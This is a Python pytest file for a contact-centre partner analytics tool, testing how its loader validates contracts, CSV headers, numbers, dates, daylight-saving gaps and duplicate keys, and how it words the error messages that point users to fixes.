    rows = [f"c{i};northcall;voice;2026-09-01 10:00:00;true;1,5;2;;" for i in range(3)]
    folder = write_engagement(
        tmp_path / "eng",
        {"contacts.csv": _csv(*rows, header=CONTACT_HEADER.replace(",", ";"))},
        contract(sources={"contacts": {"separator": ";"}}),
    )
    _, out, _ = _check(folder, capsys, monkeypatch)
    assert out.count("diagnosis") == 1
    assert (
        "3 of 3 rows rejected, 3 for wait_s: cannot read '1,5' as a number (a decimal comma? set decimal_comma: true "
        "under sources); numbers look written with a decimal comma: set `decimal_comma: true` under sources.contacts "
        "in contract.yaml" in out
    )


def test_the_sample_passes_the_check(sample_dir: Path, capsys, monkeypatch) -> None:
    status, out, err = _check(sample_dir, capsys, monkeypatch)
    assert (status, err) == (0, "") and "diagnosis" not in out


@pytest.mark.parametrize(
    ("header", "rows", "expected"),
    [
        (
            "partner_id,party,dataset,period,due_on",
            ["northcall,provider,kpis,2026-09,2026-10-05", "northcall,provider,wfm,2026-09,2026-10-05"],
            (2, None, None, None, None, None),
        ),
        (
            "partner_id,party,dataset,period,due_on,delivered_on",
            ["northcall,provider,kpis,2026-09,2026-10-05,2026-10-04", "northcall,provider,wfm,2026-09,2026-10-05,"],
            (2, 1, 1, None, 0.5, None),
        ),
        (
            "partner_id,party,dataset,period,due_on,delivered_on,complete",
            [
                "northcall,provider,kpis,2026-09,2026-10-05,2026-10-04,true",
                "northcall,provider,wfm,2026-09,2026-10-05,,",
            ],
            (2, 1, 1, 1, 0.5, 0.5),
        ),
    ],
    ids=["no_delivered_on", "no_complete", "both"],
)
def test_delivery_rates_without_their_column_are_not_measurable(tmp_path: Path, header: str, rows, expected) -> None:
    """due, delivered, on_time, complete, on_time_rate, completeness_rate: null (shown –) where the file
    lacks the column, never 0 %. With both columns: 1 of 2 delivered on time and complete, 0.5."""
    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV, "deliveries.csv": "\n".join([header, *rows]) + "\n"})
    got = pa.compute(eng).transparency.collect()
    columns = ["due", "delivered", "on_time", "complete", "on_time_rate", "completeness_rate"]
    assert got.select(columns).rows() == [expected]


def test_the_lineage_counts_the_rejected_rows_of_each_input(tmp_path: Path) -> None:
    """Rows 5 and 6 of contacts rejected (unknown partner, unreadable wait), row 3 of forecasts."""
    eng = _load(
        tmp_path,
        {
            "contacts.csv": CONTACTS_CSV
            + "c4,acme,voice,2026-09-01 10:00:00,true,1,1,,\nc5,northcall,voice,2026-09-01 10:00:00,true,x,1,,\n",
            "forecasts.csv": FORECASTS_HEADER
            + "\nnorthcall,voice,2026-10,10,2026-08-01\nnorthcall,voice,10/2026,10,\n",
        },
    ).collected()
    record = lineage(eng)
    assert [(i["table"], i["rejected"]) for i in record["inputs"]] == [("contacts", 2), ("forecasts", 1)]
    assert record["rejected_rows"] == 3


def _index_record(rejected_rows: int | None) -> dict:
    lineage_record = {"digest": "d", "partner_analytics": "0", "inputs": []}
    if rejected_rows is not None:
        lineage_record["rejected_rows"] = rejected_rows
    return {
        "client": "Acme",
        "engagement": "acme",
        "period": "2026-09",
        "state": "complete",
        "reports_total": 0,
        "reports_done": 0,
        "reports_failed": 0,
        "generated_at": "2026-10-01T00:00:00+00:00",
        "tables": "tables/",
        "lineage": lineage_record,
        "reports": [],
    }


@pytest.mark.parametrize(("rejected_rows", "banner"), [(1234, True), (0, False), (None, False)])
def test_the_cycle_index_has_a_banner_when_rows_were_rejected(rejected_rows: int | None, banner: bool) -> None:
    from partner_analytics.batch.cycle import index_html

    text = index_html(_index_record(rejected_rows))
    line = '<p class="failed">1,234 rows of the data were rejected: they are left out of every report.</p>'
    assert (line in text) is banner and ("rejected" in text) is banner


def test_a_report_of_a_period_with_rejected_rows_opens_with_a_banner(tmp_path: Path) -> None:
    """Two of northcall's September rows and one of southdesk's are rejected; August's report has no banner."""
    from partner_analytics.reports import operational_report, programme_overview, rejected_banner

    rows = [
        "c4,northcall,vocie,2026-09-03 10:00:00,true,1,1,,",
        "c5,northcall,voice,2026-09-31 10:00:00,true,1,1,,",
        "c6,southdesk,chat,2026-09-04 10:00:00,perhaps,1,1,,",
    ]
    analysis = pa.compute(_load(tmp_path, {"contacts.csv": CONTACTS_CSV + "".join(r + "\n" for r in rows)}))
    september = operational_report(analysis, "northcall", "2026-09")
    banner = rejected_banner(september.rejected, september.period).markup
    assert "<strong>2 rows of the data of September 2026 were rejected</strong> (contacts: 2)" in banner
    assert "southdesk" not in banner and "perhaps" not in banner, "a partner's report counts its own rows"
    overview = programme_overview(analysis, "2026-Q3")
    assert "3 rows of the data of Q3 2026 were rejected</strong> (contacts: 3)" in (
        rejected_banner(overview.rejected, overview.period).markup
    )
    august = operational_report(analysis, "northcall", "2026-08")
    assert rejected_banner(august.rejected, august.period).markup == ""


# --- messages that point at the fix ---------------------------------------------------------------


def _partner_change(**changes) -> dict:
    c = contract()
    c["partners"][0].update(changes)
    return c


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            _partner_change(at_risk_pct=15),
            "partners[0] (northcall).at_risk_pct: Input should be less than or equal to 1, got 15; "
            "a share is a fraction: 15 % is 0.15",
        ),
        (
            _partner_change(at_risk_pct=12.5),
            "partners[0] (northcall).at_risk_pct: Input should be less than or equal to 1, got 12.5; "
            "a share is a fraction: 12.5 % is 0.125",
        ),
        (
            _partner_change(at_risk_pc=0.12),
            "partners[0] (northcall).at_risk_pc: unknown key (did you mean 'at_risk_pct'?)",
        ),
        (
            _partner_change(earnbak_months=3),
            "partners[0] (northcall).earnbak_months: unknown key (did you mean 'earnback_months'?)",
        ),
        (contract(timezon="Europe/Paris"), "timezon: unknown key (did you mean 'timezone'?)"),
        (
            contract(channels={"voice": {"answer_within_s": 20, "short_abandon": 5}}),
            "channels.voice.short_abandon: unknown key (did you mean 'short_abandon_s'?)",
        ),
        (
            contract(sources={"contacts": {"seperator": ";"}}),
            "sources.contacts.seperator: unknown key (did you mean 'separator'?)",
        ),
        (
            _partner_change(volume_corridor={"band": 0.1, "xyz": 1}),
            "partners[0] (northcall).volume_corridor.xyz: unknown key (expected one of: band, forecast_lead_months, "
            "shortfall_rate)",
        ),
        (
            _partner_change(
                service_levels=[{"kpi": "servicelevel", "channel": "voice", "target": 0.8, "minimum": 0.75}]
            ),
            "partners[0] (northcall).service_levels[0].kpi: unknown KPI 'servicelevel' (did you mean 'service_level'?)",
        ),
        (
            _partner_change(service_levels=[{"kpi": "asa", "channel": "vocie", "target": 30, "minimum": 45}]),
            "partners[0] (northcall).service_levels[0].channel: channel 'vocie' has no thresholds under `channels` "
            "(did you mean 'voice'?)",
        ),
        (
            contract(timezone="Europe/Pari"),
            "timezone: unknown timezone 'Europe/Pari' (expected an IANA name such as "
            "Europe/Paris; did you mean 'Europe/Paris'?)",
        ),
        (
            contract(sources={"contact": {"separator": ";"}}),
            "sources.contact: unknown table 'contact' (did you mean 'contacts'?)",
        ),
    ],
    ids=[
        "percent",
        "percent_decimal",
        "key",
        "key2",
        "top_key",
        "channel_key",
        "source_key",
        "no_close_key",
        "kpi",
        "channel",
        "timezone",
        "table",
    ],
)
def test_contract_messages_point_at_the_fix(tmp_path: Path, capsys, data: dict, message: str) -> None:
    assert _contract_error(tmp_path, capsys, data) == message


@pytest.mark.parametrize(
    ("period", "message"),
    [
        ("2026-13", "period '2026-13': month 13 does not exist (expected a month 01 to 12, e.g. 2026-09)"),
        ("2026-00", "period '2026-00': month 0 does not exist (expected a month 01 to 12, e.g. 2026-09)"),
        ("2026-Q5", "period '2026-Q5': expected a month YYYY-MM (e.g. 2026-09) or a quarter YYYY-QN (e.g. 2026-Q3)"),
    ],
)
def test_cycle_of_a_month_that_does_not_exist(tmp_path: Path, capsys, period: str, message: str) -> None:
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
    assert main(["cycle", period, "--engagement", str(folder), "--out", str(tmp_path / "reports")]) == 1
    err = capsys.readouterr().err
    assert err == f"error: {message}, or latest-month / latest-quarter\n"
    assert not (tmp_path / "reports").exists()


def test_a_forgotten_engagement_option_says_the_sample_is_used(capsys, monkeypatch) -> None:
    """Without --engagement, check runs on the embedded sample and says so first, on the error stream."""
    from partner_analytics.core.paths import SAMPLE_ENGAGEMENT

    monkeypatch.setattr(cli, "SAMPLE_ENGAGEMENT", Path("/nonexistent/sample"))
    assert main(["check"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "note: no --engagement given: using the embedded sample engagement /nonexistent/sample"
    assert err[1].startswith("error: /nonexistent/sample: not a folder")
    assert SAMPLE_ENGAGEMENT.name == "sample"


def test_a_given_engagement_option_prints_no_note(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
    assert main(["check", "--engagement", str(folder)]) == 0
    assert capsys.readouterr().err == ""


# --- headers -------------------------------------------------------------------------------------


def test_duplicated_header(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.replace("customer_id", "wait_s", 1)}, capsys)
    assert "contacts.csv: header 'wait_s' appears more than once (expected unique headers)" in err


def test_duplicated_header_we_do_not_use_is_left_out(tmp_path: Path) -> None:
    header = CONTACT_HEADER + ",note,note"
    eng = _load(
        tmp_path, {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,,a,b", header=header)}
    )
    assert eng.contacts.collect().height == 1
    assert eng.warnings == (
        f"{tmp_path / 'eng' / 'contacts.csv'}: columns not in the data contract were left out: note, note",
    )


def test_two_headers_matching_one_column_by_case(tmp_path: Path, capsys) -> None:
    header = CONTACT_HEADER.replace("wait_s", "Wait_S") + ",WAIT_S"
    err = _broken(
        tmp_path, {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,,1", header=header)}, capsys
    )
    assert "contacts.csv: headers 'Wait_S' and 'WAIT_S' both match wait_s (expected one; rename the other)" in err


def test_missing_required_header(tmp_path: Path, capsys) -> None:
    header = CONTACT_HEADER.replace("wait_s,", "")
    err = _broken(
        tmp_path, {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,,", header=header)}, capsys
    )
    assert (
        f"contacts.csv: wait_s: required column 'wait_s' of contacts is missing (found: {header.replace(',', ', ')};"
        in err
    )


def test_missing_header_line(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.split("\n", 1)[1]}, capsys)
    assert err.endswith(
        "contacts.csv: contact_id: required column 'contact_id' of contacts is missing (the first line names none "
        "of the columns of contacts, so it is not shown; map another header to it under sources.contacts.columns); "
        "the first line must be the header"
    )


def test_mapped_header_absent(tmp_path: Path, capsys) -> None:
    c = contract(sources={"contacts": {"columns": {"contact_id": "Interaction ID"}}})
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV}, capsys, c)
    assert (
        "contacts.csv: column 'Interaction ID' (mapped to contact_id under sources.contacts.columns) is not in the header (found: contact_id,"
        in err
    )


def test_one_file_column_mapped_to_two_of_ours(tmp_path: Path, capsys) -> None:
    c = contract(sources={"contacts": {"columns": {"customer_id": "contact_id"}}})
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.replace(",customer_id", ",cust")}, capsys, c)
    assert "contacts.csv: header 'contact_id' is used for both contact_id and customer_id" in err


def test_extra_columns_are_kept_out_with_one_warning(tmp_path: Path) -> None:
    header = CONTACT_HEADER + ",agent,site_name"
    eng = _load(
        tmp_path, {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,,Ann,Lyon", header=header)}
    )
    assert set(eng.contacts.collect_schema().names()) == set(TABLES["contacts"].column_names)
    assert eng.warnings == (
        f"{tmp_path / 'eng' / 'contacts.csv'}: columns not in the data contract were left out: agent, site_name",
    )


def test_empty_header_cells(tmp_path: Path) -> None:
    """A column without a header but with values is left out with a warning; an empty one goes unmentioned."""
    header = CONTACT_HEADER + ",,"
    eng = _load(
        tmp_path, {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,,kept out,", header=header)}
    )
    assert eng.contacts.collect().height == 1
    assert eng.warnings == (
        f"{tmp_path / 'eng' / 'contacts.csv'}: columns not in the data contract were left out: (no header, column 10)",
    )


# --- values --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("row", "column", "reason"),
    [
        ("c4,northcall,voice,2026-09-01 10:00:00,true,twelve,1,,", "wait_s", "cannot read 'twelve' as a number"),
        (
            "c4,northcall,voice,2026-09-01 10:00:00,maybe,1,1,,",
            "answered",
            "cannot read 'maybe' as true/false, 1/0, yes/no or oui/non",
        ),
        ("c4,northcall,voice,2026-09-01 10:00:00,true,1,1,,five", "csat", "cannot read 'five' as a whole number"),
        (
            "c4,northcall,voice,yesterday,true,1,1,,",
            "arrived_at",
            "cannot read 'yesterday' as a date and time YYYY-MM-DD HH:MM:SS",
        ),
        ("c4,northcall,voice,2026-09-01 10:00:00,true,1,1,,4.0", None, None),
        ("c4,northcall,voice,2026-09-01 10:00:00,1,1,1,,", None, None),
        ("c4,northcall,voice,2026-09-01 10:00:00,true,   ,1,,", "wait_s", "missing required value"),
        ("   ,northcall,voice,2026-09-01 10:00:00,true,1,1,,", "contact_id", "missing required value"),
    ],
    ids=[
        "text_for_a_number",
        "bad_boolean",
        "text_for_a_whole_number",
        "text_for_a_datetime",
        "whole_number_with_a_point",
        "boolean_as_1",
        "blank_required_number",
        "blank_required_text",
    ],
)
def test_wrong_types(tmp_path: Path, row: str, column: str | None, reason: str | None) -> None:
    kept, rejected = _with_rows(tmp_path, row)
    if column is None:
        assert (len(kept), rejected.height) == (4, 0)
        return
    assert kept == VALID_IDS
    assert rejected.select("row", "column").row(0) == (5, column) and rejected["reason"][0].startswith(reason)


def test_mixed_decimal_marks_with_the_default_point(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "c4,northcall,voice,2026-09-01 10:00:00,true,12.5,1,,",
        'c5,northcall,voice,2026-09-01 10:00:00,true,"12,5",1,,',
        'c6,northcall,voice,2026-09-01 10:00:00,true,"1,234.5",1,,',
        "c7,northcall,voice,2026-09-01 10:00:00,true,1 234.5,1,,",
    )
    assert kept == [*VALID_IDS, "c4", "c7"]
    assert rejected["row"].to_list() == [6, 7]
    assert all("(a decimal comma? set decimal_comma: true under sources)" in r for r in rejected["reason"])


def test_mixed_decimal_marks_with_decimal_comma(tmp_path: Path) -> None:
    text = _csv(
        "c1;northcall;voice;2026-09-01 10:00:00;true;12,5;1;;",  # 12.5
        "c2;northcall;voice;2026-09-01 10:00:00;true;1.234,5;1;;",  # 1234.5: the point groups thousands
        "c3;northcall;voice;2026-09-01 10:00:00;true;1.234;1;;",  # 1234, not 1.234
        "c4;northcall;voice;2026-09-01 10:00:00;true;12.5;1;;",  # a decimal point in a decimal-comma table
        "c5;northcall;voice;2026-09-01 10:00:00;true;1,234.5;1;;",
        "c6;northcall;voice;2026-09-01 10:00:00;true;12;1 000,25;;",
        header=CONTACT_HEADER.replace(",", ";"),
    )
    eng = _load(
        tmp_path, {"contacts.csv": text}, contract(sources={"contacts": {"separator": ";", "decimal_comma": True}})
    )
    df = eng.contacts.collect().sort("contact_id")
    assert df["contact_id"].to_list() == ["c1", "c2", "c3", "c6"]
    assert df["wait_s"].to_list() == [12.5, 1234.5, 1234.0, 12.0] and df["handle_s"][3] == 1000.25
    rejected = eng.rejected.collect().sort("row")
    assert rejected["row"].to_list() == [5, 6]
    assert rejected["reason"][0] == (
        "cannot read '12.5' as a number: this table has a decimal comma (decimal_comma: true under sources), "
        "where a point only groups thousands (1.234,5)"
    )


@pytest.mark.parametrize(
    ("wait", "reason"),
    [
        ("NaN", "NaN is not a finite number"),
        ("inf", "inf is not a finite number"),
        ("-inf", "-inf is not a finite number"),
        ("1e400", "1e400 is not a finite number"),  # beyond float64: read as infinity
        ("1e308", "1e308 is out of range (expected at most 1e+12 in absolute value)"),
        ("1000000000001", "1000000000001 is out of range"),
    ],
)
def test_non_finite_and_huge_numbers(tmp_path: Path, wait: str, reason: str) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        f"c4,northcall,voice,2026-09-01 10:00:00,true,{wait},1,,",
        "c5,northcall,voice,2026-09-01 10:00:00,true,1e12,1,,",
    )
    assert kept == [*VALID_IDS, "c5"], "1e12 itself is accepted"
    assert rejected.select("row", "column").row(0) == (5, "wait_s") and rejected["reason"][0].startswith(reason)


def test_negative_durations(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "c4,northcall,voice,2026-09-01 10:00:00,true,-1,1,,",
        "c5,northcall,voice,2026-09-01 10:00:00,true,1,-0.5,,",
        "c6,northcall,voice,2026-09-01 10:00:00,true,-0,0,,",  # minus zero is zero
    )
    assert kept == [*VALID_IDS, "c6"]
    assert _reasons(rejected) == {
        5: "-1 is a negative duration (expected at least 0)",
        6: "-0.5 is a negative duration (expected at least 0)",
    }
    assert rejected["column"].to_list() == ["wait_s", "handle_s"]


# --- dates and times -----------------------------------------------------------------------------


def test_mixed_datetime_formats_in_one_column(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "d1,northcall,voice,2026-09-01 10:00:00,true,1,1,,",
        "d2,northcall,voice,2026-09-01T10:00:00,true,1,1,,",
        "d3,northcall,voice,2026-09-01 10:00,true,1,1,,",
        "d4,northcall,voice,2026-09-01 10:00:00.250,true,1,1,,",
        "d5,northcall,voice,2026-09-01T08:00:00Z,true,1,1,,",
        "d6,northcall,voice,2026-09-01T10:00+02:00,true,1,1,,",
        "d7,northcall,voice,2026-09-01,true,1,1,,",
        "d8,northcall,voice,01/09/2026 10:00,true,1,1,,",  # day-first or month-first? never guessed
    )
    assert kept == [*VALID_IDS, "d1", "d2", "d3", "d4", "d5", "d6", "d7"]
    assert rejected.select("row", "column").rows() == [(12, "arrived_at")]
    eng = _load(
        tmp_path / "again",
        {
            "contacts.csv": _csv(
                "d5,northcall,voice,2026-09-01T08:00:00Z,true,1,1,,", "d7,northcall,voice,2026-09-01,true,1,1,,"
            )
        },
    )
    assert eng.contacts.collect().sort("contact_id")["arrived_at"].to_list() == [
        dt.datetime(2026, 9, 1, 10, 0, tzinfo=PARIS),  # 08:00 UTC is 10:00 in Paris (UTC+2)
        dt.datetime(2026, 9, 1, 0, 0, tzinfo=PARIS),
    ]


def test_declared_datetime_format_and_iso_both_read(tmp_path: Path) -> None:
    c = contract(sources={"contacts": {"datetime_format": "%d/%m/%Y %H:%M"}})
    kept, rejected = _with_rows(
        tmp_path,
        "d1,northcall,voice,01/09/2026 10:00,true,1,1,,",
        "d2,northcall,voice,2026-09-01 10:00:00,true,1,1,,",
        "d3,northcall,voice,09-01-2026 10:00,true,1,1,,",
        contract_data=c,
    )
    assert kept == [*VALID_IDS, "d1", "d2"]
    assert rejected["reason"].to_list() == [
        "cannot read '09-01-2026 10:00' as a date and time %d/%m/%Y %H:%M or YYYY-MM-DD HH:MM:SS"
    ]


@pytest.mark.parametrize(
    ("when", "reason"),
    [
        ("2026-02-30 09:00:00", "'2026-02-30 09:00:00' is not a date: February 2026 has no 30th (it has 28 days)"),
        ("2026-09-31 10:00:00", "'2026-09-31 10:00:00' is not a date: September 2026 has no 31st (it has 30 days)"),
        ("2028-02-30T10:00", "'2028-02-30T10:00' is not a date: February 2028 has no 30th (it has 29 days)"),
        ("2026-04-32 10:00:00", "'2026-04-32 10:00:00' is not a date: April 2026 has no 32nd (it has 30 days)"),
        ("2026-13-01 09:00:00", "'2026-13-01 09:00:00' is not a date: month 13 does not exist (expected 01 to 12)"),
        ("2026-00-01 09:00:00", "'2026-00-01 09:00:00' is not a date: month 0 does not exist (expected 01 to 12)"),
        ("2026-09-01 25:00", None),
        ("2026-09-01 24:00:00", None),
        ("2026-09-01 09:61:00", None),
    ],
)
def test_impossible_dates_and_times(tmp_path: Path, when: str, reason: str | None) -> None:
    """The calendar says why a date is impossible; an impossible time is told the format expected."""
    kept, rejected = _with_rows(tmp_path, f"c4,northcall,voice,{when},true,1,1,,")
    assert kept == VALID_IDS
    assert rejected.select("row", "column", "reason").row(0) == (
        5,
        "arrived_at",
        reason or f"cannot read '{when}' as a date and time YYYY-MM-DD HH:MM:SS (or the datetime_format under sources)",
    )


def test_impossible_calendar_date_in_a_date_column(tmp_path: Path) -> None:
    files = {
        "contacts.csv": CONTACTS_CSV,
        "actions.csv": "action_id,partner_id,committee,raised_on,owner_party,title\n"
        "a1,northcall,operational,2026-09-03,provider,Fix IVR\n"
        "a2,northcall,operational,2026-02-30,provider,Hire\n",
    }
    eng = _load(tmp_path, files)
    assert eng.table("actions").collect()["action_id"].to_list() == ["a1"]
    got = eng.rejected.collect().row(0, named=True)
    assert (got["table"], got["row"], got["column"]) == ("actions", 3, "raised_on")
    assert got["reason"] == "'2026-02-30' is not a date: February 2026 has no 30th (it has 28 days)"


def test_impossible_month_in_a_month_column(tmp_path: Path) -> None:
    files = {
        "contacts.csv": CONTACTS_CSV,
        "forecasts.csv": FORECASTS_HEADER + "\nnorthcall,voice,2026-13,10,2026-08-01\n",
    }
    got = _load(tmp_path, files).rejected.collect().row(0, named=True)
    assert (got["row"], got["column"]) == (2, "month")
    assert got["reason"] == "'2026-13' is not a month: month 13 does not exist (expected 01 to 12)"


def test_dst_gap_is_rejected(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "g1,northcall,voice,2026-03-29 01:59:59,true,1,1,,",
        "g2,northcall,voice,2026-03-29 02:00:00,true,1,1,,",  # 02:00-02:59 do not exist in Paris that night
        "g3,northcall,voice,2026-03-29 02:59:59,true,1,1,,",
        "g4,northcall,voice,2026-03-29 03:00:00,true,1,1,,",
    )
    assert kept == [*VALID_IDS, "g1", "g4"]
    assert _reasons(rejected) == {
        6: "local time 2026-03-29 02:00:00 does not exist in Europe/Paris (clocks go forward at the DST change)",
        7: "local time 2026-03-29 02:59:59 does not exist in Europe/Paris (clocks go forward at the DST change)",
    }


def test_dst_gap_with_a_declared_format(tmp_path: Path) -> None:
    c = contract(sources={"contacts": {"datetime_format": "%d/%m/%Y %H:%M"}})
    kept, rejected = _with_rows(tmp_path, "g1,northcall,voice,29/03/2026 02:30,true,1,1,,", contract_data=c)
    assert kept == VALID_IDS
    assert rejected["reason"].to_list() == [
        "local time 29/03/2026 02:30 does not exist in Europe/Paris (clocks go forward at the DST change)"
    ]


def test_dst_repeated_hour_is_the_first_occurrence_unless_an_offset_says(tmp_path: Path) -> None:
    eng = _load(
        tmp_path,
        {
            "contacts.csv": _csv(
                "a1,northcall,voice,2026-10-25 02:30:00,true,1,1,,",
                "a2,northcall,voice,2026-10-25 02:30:00+02:00,true,1,1,,",
                "a3,northcall,voice,2026-10-25 02:30:00+01:00,true,1,1,,",
            )
        },
    )
    utc = (
        eng.contacts.collect()
        .sort("contact_id")
        .select(pl.col("arrived_at").dt.convert_time_zone("UTC").dt.replace_time_zone(None))
    )
    # 02:30 summer time (UTC+2) is 00:30 UTC; the second 02:30 (winter time, UTC+1) is 01:30 UTC.
    assert utc["arrived_at"].to_list() == [
        dt.datetime(2026, 10, 25, 0, 30),
        dt.datetime(2026, 10, 25, 0, 30),
        dt.datetime(2026, 10, 25, 1, 30),
    ]
    assert eng.rejected.collect().height == 0


def test_dst_gap_in_a_parquet_file(tmp_path: Path) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    pl.DataFrame(
        {
            "contact_id": ["p1", "p2"],
            "partner_id": ["northcall", "northcall"],
            "channel": ["voice", "voice"],
            "arrived_at": [dt.datetime(2026, 3, 29, 1, 30), dt.datetime(2026, 3, 29, 2, 30)],
            "answered": [True, True],
            "wait_s": [1.0, 2.0],
        }
    ).write_parquet(folder / "contacts.parquet")
    eng = pa.load(folder)
    assert eng.contacts.collect()["contact_id"].to_list() == ["p1"]
    got = eng.rejected.collect().row(0, named=True)
    assert (got["row"], got["column"]) == (2, "arrived_at"), "Parquet rows are numbered from 1 (no header row)"
    assert (
        got["reason"].startswith("local time 2026-03-29 02:30:00") and "does not exist in Europe/Paris" in got["reason"]
    )


def test_future_datetimes_are_rejected(tmp_path: Path) -> None:
    kept, rejected = _with_rows(tmp_path, "f1,northcall,voice,2099-01-01 09:00:00,true,1,1,,")
    assert kept == VALID_IDS
    got = rejected.row(0, named=True)
    assert (got["row"], got["column"]) == (5, "arrived_at")
    assert got["reason"].startswith("2099-01-01 09:00:00 is in the future (after the load time ")


def test_future_rule_against_a_fixed_load_time(tmp_path: Path) -> None:
    folder = write_engagement(
        tmp_path / "eng",
        {
            "contacts.csv": _csv(
                "f1,northcall,voice,2026-09-01 11:59:59,true,1,1,,",
                "f2,northcall,voice,2026-09-01 12:00:00,true,1,1,,",  # the load time itself: has happened
                "f3,northcall,voice,2026-09-01 12:00:01,true,1,1,,",
                "f4,northcall,voice,2026-09-01T10:30:00Z,true,1,1,,",  # 12:30 in Paris
            )
        },
    )
    eng = pa.load(folder)
    raw = read_table(folder / "contacts.csv", TABLES["contacts"], None)
    load_time = dt.datetime(2026, 9, 1, 10, 0, tzinfo=dt.UTC)  # 12:00 in Paris (UTC+2)
    checked = validate_table(raw, eng.contract, None, now=load_time)
    assert checked.valid.collect()["contact_id"].to_list() == ["f1", "f2"]
    rejected = checked.rejected.collect().sort("row")
    assert _reasons(rejected) == {
        4: "2026-09-01 12:00:01 is in the future (after the load time 2026-09-01 10:00:00 UTC); expected a time that has passed",
        5: "2026-09-01T10:30:00Z is in the future (after the load time 2026-09-01 10:00:00 UTC); expected a time that has passed",
    }


def test_future_dates_are_allowed_where_they_are_plans(tmp_path: Path) -> None:
    files = {
        "contacts.csv": CONTACTS_CSV,
        "forecasts.csv": "partner_id,channel,month,forecast_contacts,issued_on\nnorthcall,voice,2099-01,1000,2026-09-01\n",
        "actions.csv": "action_id,partner_id,committee,raised_on,owner_party,title,due_on\na1,northcall,operational,2026-09-03,provider,Fix IVR,2099-12-31\n",
    }
    eng = _load(tmp_path, files)
    assert eng.table("forecasts").collect()["month"].to_list() == [dt.date(2099, 1, 1)]
    assert eng.table("actions").collect()["due_on"].to_list() == [dt.date(2099, 12, 31)]
    assert eng.rejected.collect().height == 0


# --- keys and references -------------------------------------------------------------------------


def test_duplicated_contact_ids(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "c2,northcall,voice,2026-09-02 10:00:00,true,1,1,,",
        "c4,northcall,voice,2026-09-02 10:00:00,true,1,1,,",
        " c2 ,northcall,voice,2026-09-03 10:00:00,true,1,1,,",  # spaces around a value are not part of it
    )
    assert kept == [*VALID_IDS, "c4"]
    assert _reasons(rejected) == {
        5: "duplicated contact_id (first at row 3); expected each contact_id once",
        7: "duplicated contact_id (first at row 3); expected each contact_id once",
    }


def test_duplicate_of_an_invalid_row_is_the_one_kept(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "c4,northcall,voice,2026-09-02 10:00:00,true,-5,1,,",  # row 5: invalid, rejected for its value
        "c4,northcall,voice,2026-09-02 10:00:00,true,5,1,,",  # row 6: the first valid c4, kept
        "c4,northcall,voice,2026-09-02 10:00:00,true,6,1,,",  # row 7: a repeat of row 6
    )
    assert kept == [*VALID_IDS, "c4"]
    assert _reasons(rejected) == {
        5: "-5 is a negative duration (expected at least 0)",
        7: "duplicated contact_id (first at row 6); expected each contact_id once",
    }


def test_keys_that_share_a_hash_are_compared_as_keys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Repeats are looked for among the keys whose hash repeats; with every key sharing one hash
    (what two different keys may rarely do), only the true repeats are rejected."""
    monkeypatch.setattr(validation, "_key_hash", lambda key: validation._key(key).hash() * 0)
    kept, rejected = _with_rows(
        tmp_path,
        "c4,northcall,voice,2026-09-02 10:00:00,true,1,1,,",
        "c2,northcall,voice,2026-09-03 10:00:00,true,1,1,,",
    )
    assert kept == [*VALID_IDS, "c4"]
    assert _reasons(rejected) == {6: "duplicated contact_id (first at row 3); expected each contact_id once"}


def test_duplicated_action_ids(tmp_path: Path) -> None:
    files = {
        "contacts.csv": CONTACTS_CSV,
        "actions.csv": "action_id,partner_id,committee,raised_on,owner_party,title\n"
        "a1,northcall,operational,2026-09-03,provider,Fix IVR\n"
        "a1,southdesk,strategic,2026-09-04,client,Other\n",
    }
    eng = _load(tmp_path, files)
    assert eng.table("actions").collect()["title"].to_list() == ["Fix IVR"]
    assert eng.rejected.collect().select("table", "row", "column", "value", "reason").rows() == [
        ("actions", 3, "action_id", "a1", "duplicated action_id (first at row 2); expected each action_id once")
    ]


def test_duplicated_forecasts_including_an_empty_key_part(tmp_path: Path) -> None:
    files = {
        "contacts.csv": CONTACTS_CSV,
        "forecasts.csv": "partner_id,channel,month,forecast_contacts,issued_on\n"
        "northcall,voice,2026-10,1000,\n"
        "northcall,voice,2026-10,1100,2026-08-01\n"
        "northcall,voice,2026-10-01,1200,\n",  # same month, same (empty) issue date as row 2
    }
    eng = _load(tmp_path, files)
    assert sorted(eng.table("forecasts").collect()["forecast_contacts"].to_list()) == [1000.0, 1100.0]
    got = eng.rejected.collect().row(0, named=True)
    assert (got["row"], got["reason"]) == (
        4,
        "duplicated partner_id + channel + month + issued_on (first at row 2); expected each partner_id + channel + month + issued_on once",
    )


def test_unknown_partner_with_a_case_hint(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "u1,NorthCall,voice,2026-09-01 10:00:00,true,1,1,,",
        "u2,acme,voice,2026-09-01 10:00:00,true,1,1,,",
    )
    assert kept == VALID_IDS
    assert _reasons(rejected) == {
        5: "unknown partner 'NorthCall' (did you mean 'northcall'? values are case-sensitive)",
        6: "unknown partner 'acme' (expected one of the contract's partners: northcall, southdesk)",
    }


